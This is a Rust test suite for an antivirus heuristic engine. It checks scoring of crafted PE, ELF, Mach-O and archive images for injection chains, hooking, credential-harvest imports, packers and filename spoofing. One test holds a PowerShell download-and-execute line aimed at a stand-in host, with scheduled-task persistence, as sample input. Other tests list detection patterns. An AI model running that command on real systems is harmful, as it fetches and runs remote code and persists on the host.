use heliosav_layers::heuristic::analysis::{
    analyze_bytes, analyze_bytes_at, analyze_bytes_with_context, analyze_bytes_with_context_at,
    entropy_spans, preparse_certificate_anomaly, EntropyProfile, EntropyReading, EntropyReadings,
    HeuristicError,
};
use heliosav_layers::heuristic::context::{
    adjust_score_by_path, analyze_script_bytes, classify_path_context, score_api_combinations,
    CompilerFingerprint, PathContext,
};
use heliosav_layers::heuristic::rulebook::{
    calibrated_score, score_dynamic_behavior, score_static_signals, static_rulebook,
    HeuristicScore,
};
use heliosav_layers::object_fields::{in_range, mach_in_range, pe_in_range};
use heliosav_layers::score::Score;

fn value(score: Score) -> f64 {
    score.units as f64 / (1u64 << 60) as f64
}

fn score_of(value: f32) -> Score {
    Score {
        units: (value as f64 * (1u64 << 60) as f64) as u128,
    }
}

fn entropy(bytes: &[u8]) -> f32 {
    if bytes.is_empty() {
        return 0.0;
    }
    let mut counts = [0usize; 256];
    for &b in bytes {
        counts[b as usize] += 1;
    }
    let len = bytes.len() as f32;
    let mut ent = 0.0f32;
    for &c in counts.iter() {
        if c == 0 {
            continue;
        }
        let p = (c as f32) / len;
        ent -= p * p.log2();
    }
    ent.max(0.0)
}

fn profile(bytes: &[u8]) -> EntropyProfile {
    if bytes.is_empty() {
        return EntropyProfile {
            blocks: Vec::new(),
            mean: score_of(0.0),
            variance: score_of(0.0),
            peak: score_of(0.0),
        };
    }
    let block_size = ((bytes.len() + 63) / 64).max(1);
    let blocks: Vec<f32> = bytes.chunks(block_size).take(64).map(entropy).collect();
    let mean = blocks.iter().sum::<f32>() / blocks.len() as f32;
    let variance =
        blocks.iter().map(|value| (value - mean).powi(2)).sum::<f32>() / blocks.len() as f32;
    let peak = blocks.iter().copied().fold(0.0, f32::max);
    EntropyProfile {
        blocks: blocks.iter().map(|b| score_of(*b)).collect(),
        mean: score_of(mean),
        variance: score_of(variance),
        peak: score_of(peak),
    }
}

fn readings(data: &[u8]) -> EntropyReadings {
    let spans = entropy_spans(data);
    let measure = |span: &Option<(usize, usize)>| match span {
        Some((start, end)) => entropy(&data[*start..*end]),
        None => 0.0,
    };
    EntropyReadings {
        profile: profile(data),
        sections: spans
            .sections
            .iter()
            .map(|span| EntropyReading {
                value: score_of(measure(span)),
                text: format!("{:.2}", measure(span)),
            })
            .collect(),
        overlay: score_of(measure(&spans.overlay)),
    }
}

fn analyze(data: &[u8]) -> Result<HeuristicScore, HeuristicError> {
    analyze_bytes(data, &readings(data))
}

#[test]
fn test_analyze_elf_magic() {
    let mut elf = vec![0u8; 64];
    elf[0..4].copy_from_slice(b"\x7fELF");
    elf[4] = 2; // ELFCLASS64
    elf[5] = 1; // ELFDATA2LSB
    elf[6] = 1; // EV_CURRENT
    elf[16..18].copy_from_slice(&2u16.to_le_bytes()); // ET_EXEC
    elf[18..20].copy_from_slice(&0x3eu16.to_le_bytes()); // EM_X86_64
    elf[20..24].copy_from_slice(&1u32.to_le_bytes()); // EV_CURRENT
    elf[52..54].copy_from_slice(&64u16.to_le_bytes()); // ELF header size
    elf[54..56].copy_from_slice(&56u16.to_le_bytes()); // program header size
    elf[58..60].copy_from_slice(&64u16.to_le_bytes()); // section header size
    let res = analyze(&elf).expect("analyze");
    assert!(value(res.score) >= 0.0 && value(res.score) <= 1.0);
}

#[test]
fn script_trojan_chain_requires_correlated_signals() {
    let benign = analyze_script_bytes(b"Write-Host 'hello'");
    assert_eq!(value(benign.score), 0.0);

    let suspicious = analyze_script_bytes(
        br#"$x = (New-Object Net.WebClient).DownloadString('https://example.invalid/a');
               IEX $x; schtasks /create /sc onlogon /tn update /tr powershell.exe"#,
    );
    assert!(value(suspicious.score) >= 0.8);
    assert!(suspicious
        .indicators
        .iter()
        .any(|indicator| indicator == "script_persistence"));
}

#[test]
fn test_analyze_pe_magic() {
    let mut pe = vec![0u8; 512];
    pe[0] = b'M';
    pe[1] = b'Z';
    let e_lfanew = 0x80u32;
    pe[0x3c..0x40].copy_from_slice(&e_lfanew.to_le_bytes());
    pe[e_lfanew as usize..e_lfanew as usize + 4].copy_from_slice(&[b'P', b'E', 0, 0]);
    let res = analyze(&pe).expect("analyze pe");
    assert!(value(res.score) >= 0.0 && value(res.score) <= 1.0);
}

#[test]
fn analyze_bytes_includes_bounded_unpacking_evidence() {
    let mut pe = vec![0u8; 512];
    pe[0] = b'M';
    pe[1] = b'Z';
    pe[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    pe[0x180..0x184].copy_from_slice(b"UPX0");
    let result = analyze(&pe).expect("analyze PE");
    assert!(result
        .indicators
        .iter()
        .any(|indicator| indicator == "packer_detected:upx"));
}

#[test]
fn entropy_profile_handles_empty_and_small_inputs() {
    let empty = profile(&[]);
    assert!(empty.blocks.is_empty());
    assert_eq!(value(empty.score()), 0.0);
    let small = profile(b"ordinary data");
    assert!(!small.blocks.is_empty());
    assert!(value(small.score()) <= 0.55);
}

#[test]
fn api_context_score_requires_injection_and_secondary_intent() {
    assert_eq!(value(score_api_combinations(&["DeleteFileW".to_string()])), 0.0);
    assert!(
        value(score_api_combinations(&[
            "VirtualAllocEx".to_string(),
            "WriteProcessMemory".to_string(),
            "DeleteFileW".to_string(),
            "RegSetValueExW".to_string(),
        ])) >= 0.5
    );
}

#[test]
fn path_context_is_bounded_and_does_not_erase_strong_evidence() {
    let system32 = r"C:\Windows\System32\svchost.exe";
    let drivers = r"C:\Windows\System32\drivers\payload.dll";
    let low = Score::hundredths(40);
    let high = Score::hundredths(90);
    assert!(adjust_score_by_path(low, system32).units < low.units);
    assert!(adjust_score_by_path(high, system32).units >= high.units);
    assert!(adjust_score_by_path(low, drivers).units > low.units);
    assert_eq!(classify_path_context(r"C:\Users\a\Downloads\x.exe"), PathContext::Downloads);
}

#[test]
fn compiler_fingerprint_is_only_a_weak_context_signal() {
    let fingerprint = CompilerFingerprint {
        linker_version: "6.0".to_string(),
        pdb_path: r"C:\Users\hacker\Desktop\sample.pdb".to_string(),
        compile_timestamp: 1_700_000_000,
    };
    assert!(value(fingerprint.score_anomaly()) >= 0.25);
    assert!(
        value(
            CompilerFingerprint {
                linker_version: "14.0".to_string(),
                pdb_path: String::new(),
                compile_timestamp: 0,
            }
            .score_anomaly()
        ) < 0.25
    );
}

#[test]
fn test_dynamic_behavior_sequence_scores_injection_chain() {
    let events = vec![
        "VirtualAlloc".to_string(),
        "WriteProcessMemory".to_string(),
        "CreateRemoteThread".to_string(),
    ];
    let score = score_dynamic_behavior(&events);
    assert!(
        value(score.score) > 0.65,
        "injection chain should score high: {score:?}"
    );
}

#[test]
fn static_rulebook_keeps_white_black_chain_explicit() {
    let score = score_static_signals(&["white_black_sideload_injection".to_string()]);
    assert!(score.score.at_least(Score::hundredths(48)));
    assert!(score
        .indicators
        .iter()
        .any(|indicator| indicator.contains("Proxy-DLL side-loading")));
}

#[test]
fn threadpool_obfuscation_requires_correlated_memory_or_resolution_signals() {
    let benign = score_dynamic_behavior(&[
        "CreateThreadpoolWork".to_string(),
        "SubmitThreadpoolWork".to_string(),
    ]);
    assert!(!benign.score.at_least(Score::hundredths(34)));

    let suspicious = score_dynamic_behavior(&[
        "CreateThreadpoolWork".to_string(),
        "SubmitThreadpoolWork".to_string(),
        "VirtualProtect".to_string(),
        "GetProcAddress".to_string(),
    ]);
    assert!(suspicious
        .indicators
        .iter()
        .any(|indicator| indicator.contains("Thread-pool")));
    assert!(suspicious.score.at_least(Score::hundredths(34)));
}

#[test]
fn silver_fox_driver_termination_chain_scores_high() {
    let score = score_dynamic_behavior(&[
        "amsdk.sys".to_string(),
        "NtTerminateProcess".to_string(),
        "MsMpEng.exe".to_string(),
    ]);
    assert!(score.score.at_least(Score::hundredths(70)));
}

/// A minimal PE64 image with one section of the given characteristics, and bytes behind the
/// section's header.
fn minimal_pe(section_characteristics: u32, extra: &[u8]) -> Vec<u8> {
    let mut pe = vec![0u8; 0x400];
    pe[0] = b'M';
    pe[1] = b'Z';
    let e_lfanew = 0x80u32;
    pe[0x3c..0x40].copy_from_slice(&e_lfanew.to_le_bytes());
    pe[e_lfanew as usize..e_lfanew as usize + 4].copy_from_slice(b"PE\0\0");
    let coff = e_lfanew as usize + 4;
    pe[coff..coff + 2].copy_from_slice(&0x8664u16.to_le_bytes());
    pe[coff + 2..coff + 4].copy_from_slice(&1u16.to_le_bytes());
    pe[coff + 16..coff + 18].copy_from_slice(&240u16.to_le_bytes());
    let opt = coff + 20;
    pe[opt..opt + 2].copy_from_slice(&0x20bu16.to_le_bytes());
    pe[opt + 108..opt + 112].copy_from_slice(&16u32.to_le_bytes());
    let section = opt + 240;
    pe[section..section + 8].copy_from_slice(b".text\0\0\0");
    pe[section + 36..section + 40].copy_from_slice(&section_characteristics.to_le_bytes());
    if !extra.is_empty() {
        let end = (section + 40 + extra.len()).min(pe.len());
        pe[section + 40..end].copy_from_slice(&extra[..end - section - 40]);
    }
    pe
}

#[test]
fn writable_executable_sections_raise_wx_indicator() {
    const IMAGE_SCN_MEM_EXECUTE: u32 = 0x2000_0000;
    const IMAGE_SCN_MEM_WRITE: u32 = 0x8000_0000;
    const IMAGE_SCN_MEM_READ: u32 = 0x4000_0000;

    let safe = analyze(&minimal_pe(IMAGE_SCN_MEM_EXECUTE | IMAGE_SCN_MEM_READ, &[]))
        .expect("analyze");
    assert!(!safe.indicators.iter().any(|s| s.contains("wx_section")));

    let wx = analyze(&minimal_pe(
        IMAGE_SCN_MEM_EXECUTE | IMAGE_SCN_MEM_WRITE | IMAGE_SCN_MEM_READ,
        &[],
    ))
    .expect("analyze");
    assert!(wx.indicators.iter().any(|s| s.starts_with("wx_section")));
    assert!(
        wx.score.at_least(Score::hundredths(30)),
        "wx_section rule must contribute: {wx:?}"
    );
}

#[test]
fn keyboard_hook_import_combo_raises_hooking_chain() {
    let benign = analyze(&minimal_pe(0x6000_0020, b"kernel32.dll\0ExitProcess\0"))
        .expect("analyze");
    assert!(!benign
        .indicators
        .iter()
        .any(|s| s.contains("hooking_chain")));

    let hooked = analyze(&minimal_pe(
        0x6000_0020,
        b"user32.dll\0SetWindowsHookExW\0GetAsyncKeyState\0",
    ))
    .expect("analyze");
    assert!(hooked
        .indicators
        .iter()
        .any(|s| s.contains("hooking_chain")));
    assert!(hooked.score.at_least(Score::hundredths(30)));
}

#[test]
fn credential_harvest_chain_requires_three_independent_families() {
    // Clipboard access alone is too common to flag.
    let capture_only = analyze(&minimal_pe(0x6000_0020, b"user32.dll\0GetClipboardData\0"))
        .expect("analyze");
    assert!(!capture_only
        .indicators
        .iter()
        .any(|s| s.contains("credential_harvest_chain")));

    // Capture and a credential store without collection support stay neutral.
    let capture_store = analyze(&minimal_pe(0x6000_0020, b"GetClipboardData\0Wallet.dat\0"))
        .expect("analyze");
    assert!(!capture_store
        .indicators
        .iter()
        .any(|s| s.contains("credential_harvest_chain")));

    // All three independent families together raise the chain.
    let chain = analyze(&minimal_pe(
        0x6000_0020,
        b"GetClipboardData\0Wallet.dat\0FtpWebRequest\0",
    ))
    .expect("analyze");
    assert!(chain
        .indicators
        .iter()
        .any(|s| s.contains("credential_harvest_chain")));
    assert!(
        chain.score.at_least(Score::hundredths(42)),
        "chain weight must apply: {chain:?}"
    );
}

#[test]
fn truncated_certificate_table_is_a_signature_anomaly() {
    // A certificate directory that points past the end of the file.
    let mut pe = minimal_pe(0x6000_0020, &[]);
    let cert_dir = 0x80usize + 4 + 20 + 112 + 32;
    pe[cert_dir..cert_dir + 4].copy_from_slice(&0x1_0000u32.to_le_bytes());
    pe[cert_dir + 4..cert_dir + 8].copy_from_slice(&0x200u32.to_le_bytes());
    assert!(preparse_certificate_anomaly(&pe).is_some());
    let result = analyze(&pe).expect("analyze");
    assert!(result
        .indicators
        .iter()
        .any(|s| s.contains("signature:mismatch")));
    assert!(result.score.at_least(Score::hundredths(25)));
}

#[test]
fn rtlo_filename_spoofing_adds_rule_weight() {
    let pe = minimal_pe(0x6000_0020, &[]);
    let measured = readings(&pe);
    let plain =
        analyze_bytes_with_context(&pe, r"C:\Downloads\invoice.pdf", &measured).expect("analyze");
    let spoofed = analyze_bytes_with_context(
        &pe,
        "C:\\Downloads\\invoice\u{202E}fdp.exe",
        &measured,
    )
    .expect("analyze");

    assert!(!plain
        .indicators
        .iter()
        .any(|s| s.contains("rtlo_filename_spoofing")));
    assert!(spoofed
        .indicators
        .iter()
        .any(|s| s.contains("rtlo_filename_spoofing")));
    assert!(spoofed.score.units > plain.score.units);
    assert!(spoofed.score.at_least(Score::hundredths(35)));
}

#[test]
fn what_is_no_image_is_an_error_in_words() {
    let mut broken = vec![0u8; 128];
    broken[..2].copy_from_slice(b"MZ");
    broken[0x3c..0x40].copy_from_slice(&0xffff_0000u32.to_le_bytes());
    let error = analyze_bytes_at(&broken, &readings(&broken), 0).expect_err("no image");
    assert!(error.message().starts_with("parsing error: "));
}

#[test]
fn a_link_time_in_the_future_is_odd() {
    let mut pe = minimal_pe(0x6000_0020, &[]);
    let stamp = 0x80usize + 4 + 4;
    pe[stamp..stamp + 4].copy_from_slice(&2_000_000_000u32.to_le_bytes());
    let measured = readings(&pe);
    let odd = analyze_bytes_at(&pe, &measured, 1_000_000_000).expect("analyze");
    let even = analyze_bytes_at(&pe, &measured, 2_000_000_100).expect("analyze");
    let marked = |h: &HeuristicScore| h.indicators.iter().any(|i| i.contains("timestamp"));
    assert!(marked(&odd));
    assert!(!marked(&even));
}

#[test]
fn the_rulebook_has_distinct_bounded_rules() {
    let rules = static_rulebook();
    for (index, rule) in rules.iter().enumerate() {
        assert!(value(rule.weight) <= 1.0);
        assert!(rules[..index].iter().all(|other| other.id != rule.id));
    }
}

#[test]
fn weights_are_combined_in_single_precision() {
    for list in [
        vec![18u64, 34, 48],
        vec![7, 9, 11, 13, 15, 17, 19],
        vec![90, 85, 60],
    ] {
        let weights: Vec<Score> = list.iter().map(|h| Score::hundredths(*h)).collect();
        let residual = list.iter().fold(1.0f32, |residual, h| {
            residual * (1.0 - (*h as f32 / 100.0).clamp(0.0, 0.95))
        });
        let corroboration = ((list.len() - 1) as f32 * 0.025).min(0.10);
        let expected = (1.0 - residual + corroboration).clamp(0.0, 1.0);
        assert_eq!(value(calibrated_score(&weights)), expected as f64, "{list:?}");
    }
}

fn member(name: &str, body: &[u8]) -> Vec<u8> {
    let mut bytes = format!("{name:<16}{:<12}{:<6}{:<6}{:<8}{:<10}", 0, 0, 0, 644, body.len())
        .into_bytes();
    bytes.extend_from_slice(b"`\n");
    bytes.extend_from_slice(body);
    if bytes.len() % 2 == 1 {
        bytes.push(b'\n');
    }
    bytes
}

fn archive(members: &[Vec<u8>]) -> Vec<u8> {
    let mut bytes = b"!<arch>\n".to_vec();
    for part in members {
        bytes.extend_from_slice(part);
    }
    bytes
}

fn parse_failure(data: &[u8]) -> Option<String> {
    match analyze_bytes_at(data, &readings(data), 0) {
        Ok(_) => None,
        Err(HeuristicError::Parse(text)) => Some(text),
    }
}

const OUT_OF_RANGE: &str = "Malformed entity: header field out of range";

#[test]
fn archives_are_parsed() {
    let plain = archive(&[member("a.txt/", b"text"), member("b.txt/", b"more text")]);
    assert!(in_range(&plain));
    assert_eq!(parse_failure(&plain), None);
    let long = archive(&[member("//", b"a_rather_long_name.txt/\n"), member("/0", b"text")]);
    assert!(in_range(&long));
    assert_eq!(parse_failure(&long), None);
}

#[test]
fn an_archive_with_an_empty_table_of_names_is_refused() {
    let data = archive(&[member("a.txt/", b"text"), member("//", b"")]);
    assert!(!in_range(&data));
    assert_eq!(parse_failure(&data).as_deref(), Some(OUT_OF_RANGE));
}

#[test]
fn an_archive_index_counts_from_one() {
    let first = [0u8; 4];
    let index = |at: u16| {
        let mut body = 1u32.to_le_bytes().to_vec();
        body.extend_from_slice(&8u32.to_le_bytes());
        body.extend_from_slice(&1u32.to_le_bytes());
        body.extend_from_slice(&at.to_le_bytes());
        body.extend_from_slice(b"name\0");
        archive(&[member("/", &first), member("/", &body), member("a.txt/", b"text")])
    };
    assert!(!in_range(&index(0)));
    assert_eq!(parse_failure(&index(0)).as_deref(), Some(OUT_OF_RANGE));
    assert!(in_range(&index(1)));
    assert_ne!(parse_failure(&index(1)).as_deref(), Some(OUT_OF_RANGE));
}

fn mach(address: u64, place: u64, entry: u64) -> Vec<u8> {
    let mut bytes = 0xfeed_facfu32.to_le_bytes().to_vec();
    for word in [0x0100_0007u32, 3, 2, 2, 96, 0, 0] {
        bytes.extend_from_slice(&word.to_le_bytes());
    }
    bytes.extend_from_slice(&0x19u32.to_le_bytes());
    bytes.extend_from_slice(&72u32.to_le_bytes());
    bytes.extend_from_slice(b"__TEXT\0\0\0\0\0\0\0\0\0\0");
    for long in [address, 0x1000, place, 0] {
        bytes.extend_from_slice(&long.to_le_bytes());
    }
    bytes.extend_from_slice(&[0u8; 16]);
    bytes.extend_from_slice(&0x8000_0028u32.to_le_bytes());
    bytes.extend_from_slice(&24u32.to_le_bytes());
    bytes.extend_from_slice(&entry.to_le_bytes());
    bytes.extend_from_slice(&0u64.to_le_bytes());
    bytes
}

#[test]
fn a_mach_entry_point_must_have_an_address() {
    let good = mach(0x1_0000_0000, 0, 0x400);
    assert!(mach_in_range(&good));
    assert_eq!(parse_failure(&good), None);
    for bad in [mach(0x1000, 0x2000, 0x400), mach(u64::MAX, 0, 1)] {
        assert!(!mach_in_range(&bad));
        assert_eq!(parse_failure(&bad).as_deref(), Some(OUT_OF_RANGE));
    }
}

#[test]
fn more_static_signals_never_score_less() {
    let few = vec!["Wx_Section".to_string(), "virtualalloc".to_string()];
    let mut many = few.clone();
    many.push("WriteProcessMemory".to_string());
    many.push("createremotethread".to_string());
    many.push("packer_detected:upx".to_string());
    let low = score_static_signals(&few);
    let high = score_static_signals(&many);
    assert!(high.score.units > low.score.units);
    assert!(low.indicators.iter().all(|text| high.indicators.contains(text)));
    let mut shuffled: Vec<String> = many.iter().rev().map(|t| t.to_ascii_uppercase()).collect();
    shuffled.push(many[0].clone());
    let again = score_static_signals(&shuffled);
    assert_eq!(again.score, high.score);
    assert_eq!(again.indicators, high.indicators);
    let book: Vec<String> = static_rulebook().iter().map(|r| r.description.to_string()).collect();
    let places: Vec<usize> = high
        .indicators
        .iter()
        .map(|text| book.iter().position(|d| d == text).expect("a description"))
        .collect();
    assert!(places.windows(2).all(|pair| pair[0] < pair[1]));
    let none = score_static_signals(&[]);
    assert_eq!(none.score.units, 0);
    assert!(none.indicators.is_empty());
}

#[test]
fn a_coff_string_table_holds_its_own_length() {
    let object = |length: u32| {
        let mut bytes = vec![0u8; 20];
        bytes[..2].copy_from_slice(&0x8664u16.to_le_bytes());
        bytes[8..12].copy_from_slice(&20u32.to_le_bytes());
        bytes.extend_from_slice(&length.to_le_bytes());
        bytes
    };
    assert!(in_range(&object(4)));
    assert_eq!(parse_failure(&object(4)), None);
    assert!(!in_range(&object(3)));
    assert_eq!(parse_failure(&object(3)).as_deref(), Some(OUT_OF_RANGE));
}

#[test]
fn only_the_file_name_is_searched_for_direction_marks() {
    let pe = minimal_pe(0x6000_0020, &[]);
    let measured = readings(&pe);
    let disguised = |path: &str, windows: bool| {
        analyze_bytes_with_context_at(&pe, path, windows, &measured, 0)
            .expect("analyze")
            .indicators
            .iter()
            .any(|s| s.contains("rtlo_filename_spoofing"))
    };
    assert!(disguised("/a/b\u{202E}c.exe", false));
    assert!(!disguised("/a\u{202E}/c.exe", false));
    assert!(disguised("a\u{202E}\\c.exe", false));
    assert!(!disguised("a\u{202E}\\c.exe", true));
    assert!(!disguised("/a\u{202E}/..", false));
}

#[test]
fn a_section_ends_at_an_address_of_its_size() {
    let mut pe = minimal_pe(0x6000_0020, &[]);
    assert!(pe_in_range(&pe));
    assert_eq!(parse_failure(&pe), None);
    let optional = u16::from_le_bytes([pe[0x80 + 20], pe[0x80 + 21]]) as usize;
    let table = 0x80 + 24 + optional;
    pe[table + 8..table + 12].copy_from_slice(&0xffff_0000u32.to_le_bytes());
    pe[table + 12..table + 16].copy_from_slice(&0x2_0000u32.to_le_bytes());
    assert!(!pe_in_range(&pe));
    assert_eq!(parse_failure(&pe).as_deref(), Some(OUT_OF_RANGE));
}

#[test]
fn an_archive_size_may_be_padded_by_any_white_space() {
    let mut data = archive(&[member("a.txt/", b"text"), member("//", b"")]);
    let field = 8 + 48;
    data[field..field + 10].copy_from_slice("4\u{a0}       ".as_bytes());
    assert!(!in_range(&data));
    data[field..field + 10].copy_from_slice(&[0xff; 10]);
    assert!(in_range(&data));
    assert_ne!(parse_failure(&data), None);
}
